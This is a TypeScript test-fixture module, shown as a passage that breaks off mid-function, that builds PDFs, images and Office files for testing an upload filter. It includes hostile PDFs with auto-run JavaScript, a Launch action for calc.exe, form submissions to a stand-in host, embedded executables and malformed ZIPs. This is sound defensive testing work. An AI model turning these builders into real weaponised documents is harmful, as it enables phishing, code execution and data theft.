/**
 * Test files built from scratch, so the upload checks are tested against bytes whose every
 * part we know: a real PDF from pdf-lib, PNG and JPEG written chunk by chunk and segment by
 * segment, and Office documents zipped by a small ZIP writer that can also lie on purpose.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

export const enc = (s: string) => Buffer.from(s, 'latin1');

// ---------------------------------------------------------------------------------- PDF

export async function makePdf(
  opts: { objectStreams?: boolean; js?: 'openAction' | 'names'; launch?: boolean; attach?: boolean; text?: string } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText(opts.text ?? 'Don de nghi', { x: 20, y: 150, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  if (opts.js === 'openAction') {
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("x")') }));
  }
  if (opts.js === 'names') doc.addJavaScript('hello', 'app.alert("x")');
  if (opts.launch) {
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') }));
  }
  if (opts.attach) await doc.attach(Buffer.from('hello'), 'note.txt', { mimeType: 'text/plain' });
  return Buffer.from(await doc.save({ useObjectStreams: opts.objectStreams ?? true }));
}

/**
 * A PDF written by hand from object bodies (object n is `objects[n - 1]`), with a correct
 * cross-reference table: for structures pdf-lib would never produce.
 */
export function rawPdf(objects: string[], trailer = '/Root 1 0 R'): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

export const RAW_PAGES = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
];

/** PNG "Up" predictor rows (each row: filter type 2, then its difference from the row above), padded with spaces. */
export function pngUp(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const padded = Buffer.concat([data, Buffer.alloc(rows * columns - data.length, 0x20)]);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let r = 0; r < rows; r++) {
    out[r * (columns + 1)] = 2;
    for (let j = 0; j < columns; j++) out[r * (columns + 1) + 1 + j] = (padded[r * columns + j] - (r ? padded[(r - 1) * columns + j] : 0)) & 0xff;
  }
  return out;
}

export interface PackedPdfOptions {
  /** Object numbers (1-based, as in `objects`) packed into one object stream; by default every object without a stream. */
  packed?: number[];
  /**
   * The object stream: FlateDecode with a PNG predictor (default), FlateDecode alone, with
   * /Filter and /DecodeParms as indirect references, or any encoding given as the dictionary
   * entries to write and the function that encodes.
   */
  objStm?: 'predictor' | 'flate' | 'indirect' | { entries: string; encode: (plain: Buffer) => Buffer };
  /** Predictor columns of the object stream. */
  columns?: number;
  /** Extra trailer entries (the cross-reference stream's dictionary). */
  trailer?: string;
}

/**
 * A PDF written as modern tools write it: objects packed into an object stream compressed
 * with FlateDecode and a PNG predictor, located by a cross-reference stream that is itself
 * predictor-compressed (W [1 4 2]). Object n is `objects[n - 1]`; a body may carry its own
 * stream (`<< ... >>\nstream\n...\nendstream`), which then stays outside the object stream.
 */
export function packedPdf(objects: string[], opts: PackedPdfOptions = {}): Buffer {
  const packed = new Set(opts.packed ?? objects.flatMap((body, i) => (/\bstream\b/.test(body) ? [] : [i + 1])));
  const n = objects.length;
  const stmNum = n + 1;
  const filterNum = n + 2;
  const parmsNum = n + 3;
  const columns = opts.columns ?? 16;
  const mode = opts.objStm ?? 'predictor';
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = parts[0].length;
  const entries = new Map<number, [number, number, number]>();
  const write = (num: number, body: Buffer | string) => {
    entries.set(num, [1, at, 0]);
    const b = Buffer.concat([enc(`${num} 0 obj\n`), typeof body === 'string' ? enc(body) : body, enc('\nendobj\n')]);
    parts.push(b);
    at += b.length;
  };
  objects.forEach((body, i) => {
    if (!packed.has(i + 1)) write(i + 1, body);
  });
  // The object stream: "num offset" pairs, then the objects.
  const members = [...packed].sort((a, b) => a - b);
  let offset = 0;
  const header: string[] = [];
  const bodies: string[] = [];
  members.forEach((num, i) => {
    header.push(`${num} ${offset}`);
    bodies.push(objects[num - 1]);
    offset += enc(objects[num - 1]).length + 1;
    entries.set(num, [2, stmNum, i]);
  });
  const head = header.join(' ') + '\n';
  const plain = Buffer.concat([enc(head), enc(bodies.join('\n') + '\n')]);
  const data = typeof mode === 'object' ? mode.encode(plain) : deflateSync(mode === 'flate' ? plain : pngUp(plain, columns));
  const parms = `<< /Predictor 12 /Columns ${columns} >>`;
  const filter =
    typeof mode === 'object'
      ? mode.entries
      : mode === 'indirect'
        ? `/Filter ${filterNum} 0 R /DecodeParms ${parmsNum} 0 R`
        : mode === 'flate'
          ? '/Filter /FlateDecode'
          : `/Filter /FlateDecode /DecodeParms ${parms}`;
  write(
    stmNum,
    Buffer.concat([
      enc(`<< /Type /ObjStm /N ${members.length} /First ${enc(head).length} ${filter} /Length ${data.length} >>\nstream\n`),
      data,
      enc('\nendstream'),
    ]),
  );
  if (mode === 'indirect') {
    write(filterNum, '/FlateDecode');
    write(parmsNum, parms);
  }
  // The cross-reference stream, predictor-compressed like the object stream.
  const xrefNum = (mode === 'indirect' ? parmsNum : stmNum) + 1;
  entries.set(xrefNum, [1, at, 0]);
  const rows = Buffer.alloc((xrefNum + 1) * 7);
  for (let num = 0; num <= xrefNum; num++) {
    const [type, f2, f3] = entries.get(num) ?? [0, 0, num === 0 ? 65535 : 0];
    rows[num * 7] = type;
    rows.writeUInt32BE(f2, num * 7 + 1);
    rows.writeUInt16BE(f3, num * 7 + 5);
  }
  const xref = deflateSync(pngUp(rows, 7));
  const xrefAt = at;
  write(
    xrefNum,
    Buffer.concat([
      enc(
        `<< /Type /XRef /Size ${xrefNum + 1} /W [1 4 2] /Root 1 0 R ${opts.trailer ?? ''} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> /Length ${xref.length} >>\nstream\n`,
      ),
      xref,
      enc('\nendstream'),
    ]),
  );
  parts.push(enc(`startxref\n${xrefAt}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** An incremental update, as a signature or an edit appends one: new versions of objects, a cross-reference section, a trailer pointing back with /Prev. */
export function appendRevision(pdf: Buffer, objects: Record<number, string>, size: number, trailer = '/Root 1 0 R'): Buffer {
  const prev = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(pdf.toString('latin1', Math.max(0, pdf.length - 64)))![1];
  let out = pdf.toString('latin1');
  if (!out.endsWith('\n')) out += '\n';
  const offsets: [number, number][] = [];
  for (const [num, body] of Object.entries(objects)) {
    offsets.push([Number(num), out.length]);
    out += `${num} 0 obj\n${body}\nendobj\n`;
  }
  const xref = out.length;
  out += 'xref\n' + offsets.map(([num, at]) => `${num} 1\n${String(at).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${size} ${trailer} /Prev ${prev} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * A hybrid-reference file (PDF 1.5 written for older readers too): objects in `packed` live
 * in an object stream that only a cross-reference stream locates, named by /XRefStm in the
 * classic trailer; the classic table lists the others.
 */
export function hybridPdf(objects: string[], packed: number[]): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const top: [number, number][] = [];
  objects.forEach((body, i) => {
    if (packed.includes(i + 1)) return;
    top.push([i + 1, out.length]);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const stmNum = objects.length + 1;
  const head = packed.map((num, i) => `${num} ${packed.slice(0, i).reduce((n, m) => n + enc(objects[m - 1]).length + 1, 0)}`).join(' ') + '\n';
  const body = head + packed.map((num) => objects[num - 1]).join('\n') + '\n';
  const data = deflateSync(enc(body)).toString('latin1');
  top.push([stmNum, out.length]);
  out += `${stmNum} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream\nendobj\n`;
  const xrefStmNum = stmNum + 1;
  const rows = Buffer.alloc(packed.length * 4);
  packed.forEach((_, i) => rows.set([2, 0, stmNum, i], i * 4));
  const index = packed.flatMap((num) => [num, 1]).join(' ');
  const xrefStm = deflateSync(rows).toString('latin1');
  const xrefStmAt = out.length;
  top.push([xrefStmNum, xrefStmAt]);
  out += `${xrefStmNum} 0 obj\n<< /Type /XRef /Size ${xrefStmNum + 1} /W [1 2 1] /Index [${index}] /Filter /FlateDecode /Length ${xrefStm.length} >>\nstream\n${xrefStm}\nendstream\nendobj\n`;
  // The table has no entry at all for the hidden objects (poppler, like pdf.js, fills only what the table left out).
  const xref = out.length;
  out += 'xref\n0 1\n0000000000 65535 f \n' + top.map(([num, at]) => `${num} 1\n${String(at).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${xrefStmNum + 1} /Root 1 0 R /XRefStm ${xrefStmAt} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

// Encoders for the other filters and predictors, to test decoding against data we encoded.

export function asciiHexEncode(data: Buffer): Buffer {
  return enc(data.toString('hex').replace(/(.{64})/g, '$1\n') + '>');
}

export function ascii85Encode(data: Buffer): Buffer {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const n = Math.min(4, data.length - i);
    const group = Buffer.alloc(4);
    data.copy(group, 0, i, i + n);
    let v = group.readUInt32BE(0);
    if (n === 4 && v === 0) {
      out += 'z';
      continue;
    }
    const chars: string[] = [];
    for (let k = 0; k < 5; k++) {
      chars.unshift(String.fromCharCode(33 + (v % 85)));
      v = Math.floor(v / 85);
    }
    out += chars.slice(0, n + 1).join('');
  }
  return enc(out + '~>');
}

export function runLengthEncode(data: Buffer): Buffer {
  const out: number[] = [];
  for (let i = 0; i < data.length; ) {
    let run = 1;
    while (i + run < data.length && run < 128 && data[i + run] === data[i]) run++;
    if (run > 2) {
      out.push(257 - run, data[i]);
      i += run;
    } else {
      const n = Math.min(128, data.length - i);
      out.push(n - 1, ...data.subarray(i, i + n));
      i += n;
    }
  }
  out.push(128);
  return Buffer.from(out);
}

/** LZW as PDF writes it (EarlyChange 1): 9- to 12-bit codes, a clear code first and when the table fills. */
export function lzwEncode(data: Buffer): Buffer {
  const out: number[] = [];
  let acc = 0;
  let have = 0;
  let bits = 9;
  const emit = (code: number) => {
    acc = (acc * (1 << bits) + code) % 2 ** 24;
    have += bits;
    while (have >= 8) {
      out.push(Math.floor(acc / 2 ** (have - 8)) & 0xff);
      have -= 8;
    }
  };
  let table = new Map<number, number>();
  let next = 258;
  emit(256);
  let w = -1;
  for (const c of data) {
    if (w < 0) {
      w = c;
      continue;
    }
    const hit = table.get(w * 256 + c);
    if (hit !== undefined) {
      w = hit;
      continue;
    }
    emit(w);
    table.set(w * 256 + c, next++);
    if (next >= 1 << bits && bits < 12) bits++;
    if (next === 4095) {
      emit(256);
      table = new Map();
      next = 258;
      bits = 9;
    }
    w = c;
  }
  if (w >= 0) emit(w);
  emit(257);
  if (have > 0) out.push((acc << (8 - have)) & 0xff);
  return Buffer.from(out);
}

/** TIFF predictor 2 for 8-bit components: each byte minus the same component of the pixel to its left. */
export function tiffPredict(data: Buffer, columns: number, colors = 1): Buffer {
  const rowLen = columns * colors;
  const out = Buffer.from(data);
  for (let r = 0; r < data.length; r += rowLen)
    for (let j = colors; j < rowLen && r + j < data.length; j++) out[r + j] = (data[r + j] - data[r + j - colors]) & 0xff;
  return out;
}

/** PNG predictors with every row filter type in turn (None, Sub, Up, Average, Paeth), as /Predictor 15 allows. */
export function pngPredictMixed(data: Buffer, columns: number, bpp = 1): Buffer {
  const rows = Math.ceil(data.length / columns);
  const src = Buffer.concat([data, Buffer.alloc(rows * columns - data.length, 0x20)]);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let r = 0; r < rows; r++) {
    const type = r % 5;
    out[r * (columns + 1)] = type;
    for (let j = 0; j < columns; j++) {
      const x = src[r * columns + j];
      const left = j >= bpp ? src[r * columns + j - bpp] : 0;
      const up = r ? src[(r - 1) * columns + j] : 0;
      const upLeft = r && j >= bpp ? src[(r - 1) * columns + j - bpp] : 0;
      const p = left + up - upLeft;
      const paeth =
        Math.abs(p - left) <= Math.abs(p - up) && Math.abs(p - left) <= Math.abs(p - upLeft) ? left : Math.abs(p - up) <= Math.abs(p - upLeft) ? up : upLeft;
      const pred = [0, left, up, (left + up) >> 1, paeth][type];
      out[r * (columns + 1) + 1 + j] = (x - pred) & 0xff;
    }
  }
  return out;
}

const stream = (dict: string, data: string) => `<< ${dict} /Length ${enc(data).length} >>\nstream\n${data}\nendstream`;

/**
 * A one-page document (objects 1–5: catalog, pages, page, its text, its font) with room for
 * more: `catalog` and `page` are added to those dictionaries, `extra` become objects 6, 7, …
 */
export function pageObjects(o: { catalog?: string; page?: string; extra?: string[]; text?: string } = {}): string[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${o.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${o.page ?? ''} >>`,
    stream('', `BT /F1 14 Tf 20 150 Td (${o.text ?? 'Giay to goc'}) Tj ET`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...(o.extra ?? []),
  ];
}

/**
 * What poppler must find in an attack file, to prove the file really carries what it is said
 * to: `js` is printed by `pdfinfo -js`, `url` by `pdfinfo -url`, `attachment` listed by
 * `pdfdetach -list`, `form` is pdfinfo's "Form:" line. poppler's tools print neither
 * SubmitForm nor Launch actions: those files put the action in a page's or a field's
 * additional actions, and their `witness` variant adds a script beside it in the same
 * dictionary, which pdfinfo -js prints only if it read that dictionary out of the object stream.
 */
export interface AttackPdf {
  /** What the refusal must name (matched against its English text). */
  names: RegExp;
  build: (witness?: boolean) => Buffer;
  poppler: { js?: string; url?: string; attachment?: string; form?: string; witness?: boolean };
}

const witnessed = (on: boolean | undefined, key: string, tag: string) => (on ? ` /${key} << /S /JavaScript /JS (app.alert\\('${tag}'\\)) >>` : '');
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] /A ${action} >>`;

export const ATTACK_PDFS: Record<string, AttackPdf> = {
  'an OpenAction JavaScript hidden in an object stream compressed with FlateDecode and a PNG predictor': {
    names: /JavaScript/,
    build: () =>
      packedPdf(
        pageObjects({
          catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
          extra: ["<< /Type /Action /S /JavaScript /JS (app.alert\\('objstm'\\)) >>"],
        }),
      ),
    poppler: { js: "app.alert('objstm')" },
  },
  'an OpenAction JavaScript in an object stream whose /Filter and /DecodeParms are indirect references': {
    names: /JavaScript/,
    build: () =>
      packedPdf(
        pageObjects({
          catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
          extra: ["<< /S /JavaScript /JS (app.alert\\('indirect'\\)) >>"],
        }),
        { objStm: 'indirect' },
      ),
    poppler: { js: "app.alert('indirect')" },
  },
  'an XFA form': {
    names: /XFA/,
    build: () =>
      packedPdf(
        pageObjects({
          catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
          extra: [
            stream(
              '',
              '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"/></template></xdp:xdp>',
            ),
          ],
        }),
      ),
    poppler: { form: 'XFA' },
  },
  'an OpenAction (and a link) that opens a URI': {
    names: /URI/,
    build: () =>
      packedPdf(
        pageObjects({ catalog: '/OpenAction 6 0 R', page: '/Annots [7 0 R]', extra: ['<< /S /URI /URI (http://example.invalid/track) >>', link('6 0 R')] }),
      ),
    poppler: { url: 'http://example.invalid/track' },
  },
  'a page whose additional actions (/AA) submit the form': {
    names: /SubmitForm/,
    build: (w) =>
      packedPdf(
        pageObjects({
          page: `/AA << /O << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/collect) >> /Flags 4 >>${witnessed(w, 'C', 'page-aa')} >>`,
        }),
      ),
    poppler: { js: "app.alert('page-aa')", witness: true },
  },
  'a field whose additional actions submit the form': {
    names: /SubmitForm/,
    build: (w) =>
      packedPdf(
        pageObjects({
          catalog: '/AcroForm << /Fields [6 0 R] >>',
          page: '/Annots [6 0 R]',
          extra: [
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (ten) /Rect [20 20 200 50] /P 3 0 R /AA << /Fo << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/f) >> >>${witnessed(w, 'Bl', 'field-aa')} >> >>`,
          ],
        }),
      ),
    poppler: { js: "app.alert('field-aa')", witness: true },
  },
  // The embedded file's own stream says nothing (its /Type is optional): only the packed dictionaries name it.
  'an embedded file': {
    names: /EmbeddedFile/,
    build: () =>
      packedPdf(
        pageObjects({
          catalog: '/Names << /EmbeddedFiles << /Names [(hoadon.exe) 6 0 R] >> >>',
          extra: ['<< /Type /Filespec /F (hoadon.exe) /UF (hoadon.exe) /EF << /F 7 0 R >> >>', stream('', 'MZ not really a program')],
        }),
        { columns: 12 },
      ),
    poppler: { attachment: 'hoadon.exe' },
  },
  'a file attachment annotation': {
    names: /FileAttachment/,
    build: () =>
      packedPdf(
        pageObjects({
          page: '/Annots [6 0 R]',
          extra: [
            '<< /Type /Annot /Subtype /FileAttachment /Rect [20 20 40 40] /FS 7 0 R /Contents (x) >>',
            '<< /Type /Filespec /F (ghi-chu.txt) /EF << /F 8 0 R >> >>',
            stream('', 'hello'),
          ],
        }),
      ),
    poppler: { attachment: 'ghi-chu.txt' },
  },
  'a Launch action run on opening the document and its page': {
    names: /Launch/,
    build: (w) =>
      packedPdf(
        pageObjects({
          catalog: '/OpenAction 6 0 R',
          page: `/AA << /O 6 0 R${witnessed(w, 'C', 'launch')} >>`,
          extra: ['<< /S /Launch /F (calc.exe) /NewWindow true >>'],
        }),
      ),
    poppler: { js: "app.alert('launch')", witness: true },
  },
};

/** A clean document packed the modern way (object stream and cross-reference stream with predictors). */
export const benignPackedPdf = (text = 'Giay khai sinh ban chinh') =>
  packedPdf(pageObjects({ text, extra: ['<< /Title (Ban chinh) /Producer (scanner) >>'] }), { trailer: '/Info 6 0 R' });

// ---------------------------------------------------------------------------------- PNG

export function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([enc(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A width×height RGB PNG: each scanline is filter byte 0 then the pixels. */
export function makePng(width = 3, height = 2, chunks?: (c: { ihdr: Buffer; idat: Buffer; iend: Buffer }) => Buffer[]): Buffer {
  const ihdrData = Buffer.alloc(13);
  ihdrData.writeUInt32BE(width, 0);
  ihdrData.writeUInt32BE(height, 4);
  ihdrData[8] = 8; // bit depth
  ihdrData[9] = 2; // truecolour
  const rows: Buffer[] = [];
  for (let y = 0; y < height; y++) {
    const row = Buffer.alloc(1 + width * 3);
    for (let x = 0; x < width; x++) row.set([(x * 80) & 255, (y * 120) & 255, 200], 1 + x * 3);
    rows.push(row);
  }
  const c = { ihdr: pngChunk('IHDR', ihdrData), idat: pngChunk('IDAT', deflateSync(Buffer.concat(rows))), iend: pngChunk('IEND', Buffer.alloc(0)) };
  return Buffer.concat([PNG_SIGNATURE, ...(chunks ? chunks(c) : [c.ihdr, c.idat, c.iend])]);
}

// --------------------------------------------------------------------------------- JPEG

const seg = (marker: number, data: Buffer) => {
  const h = Buffer.from([0xff, marker, 0, 0]);
  h.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([h, data]);
};

/**
 * A baseline 8×8 grey JPEG whose one block has all coefficients zero: one-code Huffman
 * tables (DC category 0, AC end-of-block), so the scan is the two bits `00` padded with ones.
 */
export function makeJpeg(opts: { comment?: string; skipFrame?: boolean } = {}): Buffer {
  const app0 = seg(0xe0, Buffer.concat([enc('JFIF\0'), Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0])]));
  const dqt = seg(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)]));
  const sof = seg(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0]));
  const counts = Buffer.alloc(16);
  counts[0] = 1;
  const dhtDc = seg(0xc4, Buffer.concat([Buffer.from([0x00]), counts, Buffer.from([0x00])]));
  const dhtAc = seg(0xc4, Buffer.concat([Buffer.from([0x10]), counts, Buffer.from([0x00])]));
  const sos = seg(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0]));
  const com = opts.comment !== undefined ? [seg(0xfe, enc(opts.comment))] : [];
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    app0,
    ...com,
    dqt,
    ...(opts.skipFrame ? [] : [sof]),
    dhtDc,
    dhtAc,
    sos,
    Buffer.from([0x3f]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

// ---------------------------------------------------------------------------------- ZIP

export interface ZipInput {
  name: string;
  data: Buffer | string;
  /** 0 store, 8 deflate (default). */
  method?: 0 | 8;
  /** Lies written into the central directory (and local header) for the bad corpus. */
  declaredSize?: number;
  flags?: number;
  crc?: number;
  /** Central-directory offset override (overlapping entries). */
  offset?: number;
}

/** A ZIP archive as Office writes it: local headers, data, central directory, end record. */
export function makeZip(entries: ZipInput[], opts: { comment?: string; totalEntries?: number; prefix?: Buffer } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = opts.prefix?.length ?? 0;
  for (const e of entries) {
    const raw = typeof e.data === 'string' ? Buffer.from(e.data, 'utf8') : e.data;
    const method = e.method ?? 8;
    const data = method === 8 ? deflateRawSync(raw) : raw;
    const name = Buffer.from(e.name, 'utf8');
    const crc = e.crc ?? crc32(raw);
    const size = e.declaredSize ?? raw.length;
    const flags = (e.flags ?? 0) | 0x800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(e.offset ?? offset, 42);
    centrals.push(Buffer.concat([central, name]));
    const l = Buffer.concat([local, name, data]);
    locals.push(l);
    offset += l.length;
  }
  const cd = Buffer.concat(centrals);
  const comment = Buffer.from(opts.comment ?? '', 'latin1');
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(opts.totalEntries ?? entries.length, 8);
  end.writeUInt16LE(opts.totalEntries ?? entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([opts.prefix ?? Buffer.alloc(0), ...locals, cd, end, comment]);
}

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const EXCEL_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

export function contentTypes(overrides: Record<string, string>): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
    Object.entries(overrides)
      .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
      .join('') +
    '</Types>'
  );
}

const rels = (target: string) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`;

export function docxEntries(text = 'Đơn đề nghị cấp giấy phép'): ZipInput[] {
  return [
    { name: '[Content_Types].xml', data: contentTypes({ '/word/document.xml': WORD_MAIN }) },
    { name: '_rels/.rels', data: rels('word/document.xml') },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
    },
  ];
}

export function xlsxEntries(): ZipInput[] {
  return [
    {
      name: '[Content_Types].xml',
      data: contentTypes({
        '/xl/workbook.xml': EXCEL_MAIN,
        '/xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
      }),
    },
    { name: '_rels/.rels', data: rels('xl/workbook.xml') },
    {
      name: 'xl/workbook.xml',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Hồ sơ</t></is></c></row></sheetData></worksheet>',
    },
  ];
}

export const makeDocx = () => makeZip(docxEntries());
export const makeXlsx = () => makeZip(xlsxEntries());

// ------------------------------------------------------------------- Office attack files

const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD_NS =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';

export const relationships = (rels: { id: string; type: string; target: string; external?: boolean }[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELS_NS}">` +
  rels.map((r) => `<Relationship Id="${r.id}" Type="${R}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`).join('') +
  '</Relationships>';

/**
 * A Word document with the given body XML, relationships of word/document.xml, extra parts
 * and content-type overrides: Word opens what this writes.
 */
export function docxWith(
  o: { body?: string; rels?: Parameters<typeof relationships>[0]; parts?: ZipInput[]; overrides?: Record<string, string> } = {},
): Buffer {
  const body = o.body ?? '<w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p>';
  return makeZip([
    { name: '[Content_Types].xml', data: contentTypes({ '/word/document.xml': WORD_MAIN, ...o.overrides }) },
    { name: '_rels/.rels', data: rels('word/document.xml') },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ${WORD_NS}><w:body>${body}</w:body></w:document>`,
    },
    ...(o.rels ? [{ name: 'word/_rels/document.xml.rels', data: relationships(o.rels) }] : []),
    ...(o.parts ?? []),
  ]);
}

const CFB = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
const fieldRuns = (...instr: string[]) =>
  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
  instr.map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`).join('') +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';

export interface AttackOffice {
  build: () => Buffer;
  name: string;
  code: 'PAYLOAD_TOO_LARGE' | 'UNSUPPORTED_MEDIA_TYPE' | 'ACTIVE_CONTENT_REFUSED';
  /** What the refusal must say (its English text). */
  says: RegExp;
}

/** A DOCX whose settings attach a template through a relationship of this type, outside the file. */
const remoteTemplate = (type: string, target: string) =>
  docxWith({
    rels: [{ id: 'rId1', type: 'settings', target: 'settings.xml' }],
